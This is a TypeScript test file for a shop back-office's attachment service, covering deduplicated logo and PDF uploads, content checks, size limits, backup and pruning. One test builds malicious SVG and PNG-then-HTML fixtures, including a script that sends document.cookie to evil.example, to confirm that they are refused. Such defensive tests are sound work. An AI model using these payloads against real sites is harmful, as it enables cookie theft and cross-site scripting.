import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { backupNow } from '../../../db/backup';
import { openDatabase } from '../../../db/open';
import { fixedClock, settingsOn } from '../../../test/services';
import { pngClaiming, pngFile } from '../../../test/pngFile';
import { useTempDir } from '../../../test/tempDir';
import { createMemoryLogger } from '../logger';
import { pruneStore } from '../store/pruning';
import { createAttachmentService } from './attachmentService';

const tempDir = useTempDir();
const actor = { by: 'Anna de Vries', userId: 'u-anna', lang: 'nl' as const };
const logo = pngFile(40, 20, [200, 30, 30]);
const pdf = Buffer.from('%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n');
const svg = Buffer.from('<?xml version="1.0"?>\n<!-- De Spaak -->\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>');

function shop() {
  const dir = tempDir();
  const { store, logger, settings } = settingsOn(dir);
  const attachments = createAttachmentService({ store, clock: fixedClock('2026-11-28T10:00:00Z'), logger });
  const count = (table: string) => (store.sqlite.prepare(`SELECT count(*) AS n FROM ${table}`).get() as { n: number }).n;
  return { dir, store, settings, attachments, count };
}

describe('attachments are stored once, by hash', () => {
  it('keeps an uploaded logo once however often it is uploaded, and the settings hold only its reference', () => {
    const { store, settings, attachments, count } = shop();
    const first = attachments.upload({ group: 'company.general', field: 'logo', name: 'C:\\Users\\anna\\logo-spaak.png', bytes: logo }, 'nl');
    const again = attachments.upload({ group: 'company.general', field: 'logo', name: 'logo-spaak.png', bytes: logo }, 'nl');
    if (!first.ok || !again.ok) throw new Error('upload refused');
    expect(first.value).toEqual({ hash: expect.stringMatching(/^[0-9a-f]{64}$/), type: 'image/png', name: 'logo-spaak.png', size: logo.length });
    expect(again.value.hash).toBe(first.value.hash);
    expect(count('blobs')).toBe(1);

    const saved = settings.writeGroup('company.general', { logo: first.value }, actor);
    expect(saved.ok).toBe(true);
    const file = attachments.file(first.value.hash);
    expect(file?.bytes.equals(logo)).toBe(true);
    const stored = store.sqlite.prepare("SELECT (SELECT data FROM records WHERE id = 'company.general') AS record, (SELECT history FROM outbox) AS history, (SELECT changes FROM outbox) AS outbox").get() as Record<string, string>;
    for (const text of Object.values(stored)) {
      expect(text).toContain(first.value.hash);
      expect(text.length).toBeLessThan(300);
    }
    store.close();
  });

  it('refuses a file that is not what the field takes, by its bytes, naming the field in Dutch and English, and stores nothing', () => {
    const { store, attachments, count } = shop();
    const renamed = attachments.upload({ group: 'company.general', field: 'logo', name: 'logo.png', bytes: pdf }, 'nl');
    expect(renamed).toMatchObject({ ok: false, error: { fields: [{ field: 'logo', message: 'Logo moet een PNG-, JPEG- of SVG-afbeelding zijn.' }] } });
    const text = attachments.upload({ group: 'orders.terms', field: 'generalTermsPdf', name: 'voorwaarden.pdf', bytes: Buffer.from('Algemene voorwaarden') }, 'en');
    expect(text).toMatchObject({ ok: false, error: { fields: [{ field: 'generalTermsPdf', message: 'General terms and conditions (PDF) must be a PDF file.' }] } });
    const empty = attachments.upload({ group: 'company.general', field: 'logo', name: 'leeg.png', bytes: Buffer.alloc(0) }, 'nl');
    expect(empty.ok).toBe(false);
    const big = pngFile(300, 300, [0, 0, 0], 11);
    const tooLarge = attachments.upload({ group: 'company.general', field: 'logoMonochrome', name: 'bon.png', bytes: big }, 'nl');
    expect(tooLarge).toMatchObject({ ok: false, error: { fields: [{ message: 'Zwart-witlogo voor bonprinter is te groot: hoogstens 256 kB.' }] } });
    const notAnUpload = attachments.upload({ group: 'company.general', field: 'companyName', name: 'x.png', bytes: logo }, 'nl');
    expect(notAnUpload).toMatchObject({ ok: false, error: { message: 'Bedrijfsnaam is geen veld voor een bestand.' } });
    expect(count('blobs')).toBe(0);
    store.close();
  });

  it('refuses an SVG logo that runs a script, an image too large to draw and a file that only starts like a PNG, and stores nothing', () => {
    const { store, attachments, count } = shop();
    const upload = (name: string, bytes: Buffer, lang: 'nl' | 'en' = 'nl') => attachments.upload({ group: 'company.general', field: 'logo', name, bytes }, lang);
    const scripted = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><script>fetch("https://evil.example/"+document.cookie)</script></svg>');
    expect(upload('logo.svg', scripted)).toMatchObject({
      ok: false,
      error: { fields: [{ field: 'logo', message: 'Logo: deze SVG bevat scripts, HTML of verwijzingen naar andere bestanden of websites. Een logo is alleen een tekening: exporteer het opnieuw als eenvoudige SVG of als PNG.' }] },
    });
    const huge = pngClaiming(20000, 20000);
    expect(huge.length).toBeLessThan(1024);
    expect(upload('logo.png', huge)).toMatchObject({ ok: false, error: { fields: [{ field: 'logo', message: 'Logo is te groot: 20000 × 20000 pixels, hoogstens 4000 × 4000.' }] } });
    expect(attachments.upload({ group: 'company.general', field: 'logoMonochrome', name: 'bon.png', bytes: pngClaiming(5000, 200) }, 'en')).toMatchObject({
      ok: false,
      error: { fields: [{ field: 'logoMonochrome', message: 'Black-and-white logo for receipt printer is too large: 5000 × 200 pixels, at most 4000 × 4000.' }] },
    });
    const pngThenHtml = Buffer.concat([pngFile(1, 1, [0, 0, 0]).subarray(0, 8), Buffer.from('<html><script>alert(1)</script></html>')]);
    expect(upload('logo.png', pngThenHtml)).toMatchObject({ ok: false, error: { fields: [{ field: 'logo', message: 'Logo moet een PNG-, JPEG- of SVG-afbeelding zijn.' }] } });
    expect(count('blobs')).toBe(0);
    expect(upload('logo.png', pngClaiming(4000, 4000))).toMatchObject({ ok: true });
    store.close();
  });

  it('takes SVG logos and PDF terms by their content', () => {
    const { store, attachments } = shop();
    expect(attachments.upload({ group: 'company.general', field: 'logo', name: 'logo.svg', bytes: svg }, 'nl')).toMatchObject({ ok: true, value: { type: 'image/svg+xml' } });
    expect(attachments.upload({ group: 'orders.terms', field: 'generalTermsPdf', name: '', bytes: pdf }, 'nl')).toMatchObject({ ok: true, value: { type: 'application/pdf', name: 'generalTermsPdf.pdf' } });
    store.close();
  });

  it('refuses a settings change naming a file this workstation does not hold, and writes nothing', () => {
    const { store, settings, count } = shop();
    const ghost = { hash: 'a'.repeat(64), type: 'image/png', name: 'logo.png', size: 100 };
    const result = settings.writeGroup('company.general', { companyName: 'De Spaak', logo: ghost }, actor);
    expect(result).toMatchObject({ ok: false, error: { fields: [{ field: 'logo', message: 'Logo: dit bestand staat niet op deze werkplek. Kies het bestand opnieuw.' }] } });
    expect(count('records') + count('outbox')).toBe(0);
    store.close();
  });

  it('answers a one-field save in the group holding a 1 MB logo with a few hundred bytes, not the logo', () => {
    const { store, settings, attachments } = shop();
    const big = pngFile(590, 590, [0, 0, 0], 3);
    const upload = attachments.upload({ group: 'company.general', field: 'logo', name: 'logo.png', bytes: big }, 'nl');
    if (!upload.ok) throw new Error(upload.error.message);
    settings.writeGroup('company.general', { logo: upload.value }, actor);
    const save = settings.writeGroup('company.general', { companyName: 'Fietsenwinkel De Spaak' }, actor);
    expect(save.ok).toBe(true);
    expect(JSON.stringify(save).length).toBeLessThan(2_000);
    const outbox = store.sqlite.prepare('SELECT changes FROM outbox ORDER BY seq DESC LIMIT 1').get() as { changes: string };
    expect(JSON.parse(outbox.changes)).toEqual({ companyName: 'Fietsenwinkel De Spaak' });
    store.close();
  });

  it('says "not downloaded" for a file it neither holds nor can fetch', async () => {
    const { store, attachments } = shop();
    expect(await attachments.content('b'.repeat(64))).toEqual({ state: 'notDownloaded', hash: 'b'.repeat(64), reason: 'notPaired' });
    store.close();
  });

  it('keeps the files in a backup, so a restore brings the logo back', async () => {
    const { dir, store, settings, attachments } = shop();
    const upload = attachments.upload({ group: 'company.general', field: 'logo', name: 'logo.png', bytes: logo }, 'nl');
    if (!upload.ok) throw new Error(upload.error.message);
    settings.writeGroup('company.general', { logo: upload.value }, actor);
    const backup = await backupNow(store.sqlite, path.join(dir, 'backups'), new Date('2026-11-28T12:00:00Z'));
    store.close();
    const restoredDir = tempDir();
    fs.copyFileSync(backup.path, path.join(restoredDir, 'backoffice.sqlite'));
    const restored = openDatabase(path.join(restoredDir, 'backoffice.sqlite'));
    const again = createAttachmentService({ store: restored, clock: fixedClock('2026-11-28T13:00:00Z'), logger: createMemoryLogger() });
    const record = JSON.parse((restored.sqlite.prepare("SELECT data FROM records WHERE id = 'company.general'").get() as { data: string }).data);
    expect(again.file(record.logo.hash)?.bytes.equals(logo)).toBe(true);
    restored.close();
  });

  it('lets a file go once nothing names it and it is a day old, and keeps every file a setting, its history or the outbox names', () => {
    const { store, settings, attachments, count } = shop();
    const upload = (colour: [number, number, number]) => {
      const result = attachments.upload({ group: 'company.general', field: 'logo', name: 'logo.png', bytes: pngFile(8, 8, colour) }, 'nl');
      if (!result.ok) throw new Error(result.error.message);
      return result.value;
    };
    const first = upload([255, 0, 0]);
    settings.writeGroup('company.general', { logo: first }, actor);
    const neverSaved = upload([0, 255, 0]);
    const current = upload([0, 0, 255]);
    settings.writeGroup('company.general', { logo: current }, actor);
    expect(count('blobs')).toBe(3);
    // The upload time is 2026-11-28T10:00Z; an hour later even the unsaved file stays (its form may still be open).
    expect(pruneStore(store.sqlite, new Date('2026-11-28T11:00:00Z')).files).toBe(0);
    expect(pruneStore(store.sqlite, new Date('2026-11-30T10:00:00Z')).files).toBe(1);
    expect(attachments.has(neverSaved.hash)).toBe(false);
    expect(attachments.has(current.hash)).toBe(true);
    // The replaced logo is still named by its history row (Geschiedenis shows it).
    expect(attachments.has(first.hash)).toBe(true);
    store.close();
  });

  it('keeps a file chosen again today even though the same file was first chosen (and never saved) days ago, so the save still works', () => {
    const { store, logger, settings } = settingsOn(tempDir());
    const chosen = { group: 'company.general', field: 'logo', name: 'logo.png', bytes: pngFile(8, 8, [10, 20, 30]) };
    createAttachmentService({ store, clock: fixedClock('2026-11-23T10:00:00Z'), logger }).upload(chosen, 'nl');
    const friday = createAttachmentService({ store, clock: fixedClock('2026-11-27T10:00:00Z'), logger });
    const again = friday.upload(chosen, 'nl');
    if (!again.ok) throw new Error(again.error.message);
    // A minute later the scheduled prune runs while the form is still open.
    expect(pruneStore(store.sqlite, new Date('2026-11-27T10:01:00Z')).files).toBe(0);
    expect(friday.has(again.value.hash)).toBe(true);
    expect(settings.writeGroup('company.general', { logo: again.value }, actor)).toMatchObject({ ok: true });
    store.close();
  });
});
